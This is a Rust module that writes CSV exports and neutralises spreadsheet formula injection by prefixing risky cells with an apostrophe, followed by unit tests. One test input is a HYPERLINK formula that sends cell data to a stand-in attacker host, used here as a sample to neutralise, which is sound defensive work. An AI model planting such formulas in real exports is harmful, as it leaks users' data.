//! Every CSV file Forum Desk writes goes through here, so that no text from someone
//! else (a need typed into a form, a name, an action) can run as a formula when the
//! chair opens the file in Excel or LibreOffice.
//!
//! Spreadsheets treat a cell that starts with `=`, `+`, `-` or `@` as a formula, and
//! some strip a leading tab or carriage return first. As OWASP recommends for CSV
//! injection, such a text cell is written with a leading apostrophe, which spreadsheets
//! read as "this is text": `=HYPERLINK(...)` arrives as the text `'=HYPERLINK(...)`.
//! Numbers the app itself computes (a score, a rank) are written as they are, so a
//! negative number stays a number.

use crate::store::StoreError;
use crate::Result;

/// One cell: text from anywhere (neutralised), or a number we computed.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell<'a> {
    Text(&'a str),
    Number(f64),
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(text: &'a str) -> Cell<'a> {
        Cell::Text(text)
    }
}

impl<'a> From<&'a String> for Cell<'a> {
    fn from(text: &'a String) -> Cell<'a> {
        Cell::Text(text)
    }
}

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Text as a spreadsheet must receive it: a cell that would start a formula gets a
/// leading apostrophe; anything else is unchanged.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    match text.chars().next() {
        Some(c) if FORMULA_STARTS.contains(&c) => format!("'{text}").into(),
        _ => text.into(),
    }
}

/// A CSV table being written: a header row, then rows of cells.
pub struct CsvTable {
    writer: csv::Writer<Vec<u8>>,
}

fn csv_error(e: impl std::fmt::Display) -> crate::Error {
    StoreError::Conflict { field: None, message: format!("Could not write CSV: {e}") }.into()
}

impl CsvTable {
    pub fn new(header: &[&str]) -> Result<CsvTable> {
        let mut table = CsvTable { writer: csv::Writer::from_writer(Vec::new()) };
        table.row(header.iter().map(|h| Cell::Text(h)))?;
        Ok(table)
    }

    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = Cell<'a>>) -> Result<()> {
        let fields: Vec<String> = cells
            .into_iter()
            .map(|c| match c {
                Cell::Text(t) => neutralise(t).into_owned(),
                Cell::Number(n) => format_number(n),
            })
            .collect();
        self.writer.write_record(&fields).map_err(csv_error)
    }

    /// The whole file as text (UTF-8, RFC 4180 quoting).
    pub fn finish(self) -> Result<String> {
        let bytes = self.writer.into_inner().map_err(csv_error)?;
        String::from_utf8(bytes).map_err(csv_error)
    }
}

/// Whole numbers without a decimal point, others with two places.
fn format_number(n: f64) -> String {
    if n.fract() == 0.0 && n.abs() < 1e15 {
        format!("{}", n as i64)
    } else {
        format!("{n:.2}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_neutralised_and_other_text_is_not() {
        for hostile in ["=1+1", "+44 20", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")"] {
            assert_eq!(neutralise(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for plain in ["Mentoring", "", " =not at the start", "'quoted", "100%", "\u{ff1d}1+1", "a=b"] {
            assert_eq!(neutralise(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn numbers_are_written_as_numbers() {
        let mut t = CsvTable::new(&["Text", "Number"]).unwrap();
        t.row([Cell::Text("-5"), Cell::Number(-0.25)]).unwrap();
        t.row([Cell::Text("x"), Cell::Number(3.0)]).unwrap();
        assert_eq!(t.finish().unwrap(), "Text,Number\n'-5,-0.25\nx,3\n");
    }
}
